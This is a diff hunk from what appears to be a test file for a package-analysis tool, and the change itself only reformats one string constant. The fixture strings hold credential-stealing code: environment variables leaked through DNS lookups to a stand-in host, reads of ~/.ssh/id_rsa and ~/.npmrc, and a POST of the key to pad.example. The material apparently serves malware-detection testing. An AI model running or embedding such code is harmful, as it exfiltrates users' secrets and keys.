@@ -19,8 +19,7 @@ const added = async (files: Record<string, string>) => ({ package: await anAnaly
 const lookup = `const text = Buffer.from(JSON.stringify(process.env)).toString('hex')
 require('dns').lookup(text.slice(0, 60) + '.pad.example', () => {})`
 const readsKey = "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')"
-const readsSettings =
-  "const own = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').split('=')"
+const readsSettings = "const own = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8').split('=')"
 const asks = 'fetch(own[1], { headers: { authorization: own[3] } })'
 const posts = "fetch('https://pad.example/', { method: 'POST', body: key })"
 
